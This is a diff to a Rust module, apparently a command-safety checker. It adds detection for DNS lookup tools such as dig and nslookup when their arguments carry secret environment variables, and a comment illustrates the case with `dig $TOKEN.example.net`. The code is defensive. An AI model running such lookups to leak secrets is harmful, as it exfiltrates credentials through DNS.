@@ -22,6 +22,18 @@ pub(super) fn sent_or_fetched(prog: &str, args: &[String]) -> Option<(String, bo
     if let Some(found) = super::secret_code::code_sends(prog, args) {
         return Some(found);
     }
+    // A name looked up is sent to the resolvers and the zone's servers
+    // (`dig $TOKEN.example.net`): a secret in it has left.
+    if matches!(
+        prog,
+        "dig" | "nslookup" | "host" | "drill" | "kdig" | "delv" | "resolvectl" | "getent"
+    ) && let Some(v) = args
+        .iter()
+        .filter(|a| !a.starts_with('-') && !a.starts_with('@'))
+        .find_map(|a| secret_vars(a))
+    {
+        return Some((format!("the environment variable {v}"), true));
+    }
     if !matches!(
         prog,
         "curl"
